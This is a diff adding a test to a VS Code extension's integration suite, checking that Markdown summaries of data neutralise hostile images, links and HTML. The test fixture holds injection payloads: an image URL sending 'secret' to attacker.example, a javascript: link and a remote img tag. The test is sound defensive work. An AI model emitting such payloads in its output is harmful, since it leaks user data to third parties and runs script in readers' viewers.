@@ -4,6 +4,7 @@ import os from 'node:os';
 import path from 'node:path';
 import * as vscode from 'vscode';
 import type { AnalyzeResult } from '../../src/commands/analyzeFile';
+import { overviewMarkdown } from '../../src/chat/opener';
 import type { DatasetNode, DataSourceNode } from '../../src/views/nodes';
 import { engineClient, extensionApi, salesCsv, waitFor, writeCsv } from './support';
 
@@ -116,6 +117,22 @@ describe('Analyze this File and the Datasets tree, against the local engine', fu
     assert.match(text, /^# Sales \(analyze test\)/);
     assert.ok(text.includes('## Summary'));
     for (const question of overview.exploration_questions.slice(0, 2)) assert.ok(text.includes(question.slice(0, 10)), `question "${question}" shown`);
+  });
+
+  it('neutralises images, links and HTML that a summary quotes from the data', async () => {
+    const hostile = [
+      'Most common `link`: ![logo](https://attacker.example/pixel.png?d=secret)',
+      'See [the docs](javascript:alert(1)) and <img src="https://attacker.example/x.png">',
+      '[ref]: https://attacker.example/ref',
+      'Kept: **bold**, a list and `code [with] brackets`.',
+    ].join('\n\n');
+    const markdown = overviewMarkdown({ id: 'd', name: 'Hostile', description: '', summary: hostile, exploration_questions: [], keywords: [] });
+    const html = await vscode.commands.executeCommand<string>('markdown.api.render', markdown);
+    assert.doesNotMatch(html, /<img/i, html);
+    assert.doesNotMatch(html, /href="javascript:/i, html);
+    assert.doesNotMatch(html, /<a [^>]*>the docs<\/a>/, 'Markdown link syntax is shown as text');
+    assert.match(html, /<strong>bold<\/strong>/);
+    assert.match(html, /<code>code \[with\] brackets<\/code>/);
   });
 
   it('renames and describes, opens and removes a data source, copies its id, and deletes a dataset', async () => {
